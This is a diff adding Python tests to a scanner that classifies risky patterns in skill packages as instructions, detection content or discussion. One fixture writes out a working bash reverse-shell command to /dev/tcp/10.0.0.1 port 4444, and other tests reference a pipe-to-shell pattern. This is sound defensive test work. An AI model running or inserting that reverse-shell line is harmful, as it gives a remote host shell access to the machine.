@@ -90,6 +90,21 @@ def test_a_forbidding_clause_is_negation_and_does_not_reach_past_its_end() -> No
     assert _only(forget, "exec.pipe-to-shell").span == "instruction"
 
 
+def test_a_bare_pattern_list_in_code_is_detection_content() -> None:
+    listed = f'PATTERNS = [\n    "{PIPE}",\n]\n'
+    report = scan(
+        {"SKILL.md": skill_md("Run `python scripts/check.py`."), "scripts/check.py": listed}
+    )
+    assert _only(report, "exec.pipe-to-shell").span == "detection"
+    assert report.verdict == "PASS"
+
+
+def test_a_reverse_shell_payloads_section_is_discussion() -> None:
+    body = "## Reverse shell payloads\n\n- `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`\n"
+    finding = _only(scan({"SKILL.md": skill_md(body)}), "revshell.dev-tcp")
+    assert finding.span == "discussion"
+
+
 def test_negation_is_read_in_prose_only() -> None:
     code = f"```bash\necho never && {PIPE}\n```\n"
     assert _only(scan({"SKILL.md": skill_md(code)}), "exec.pipe-to-shell").span == "instruction"
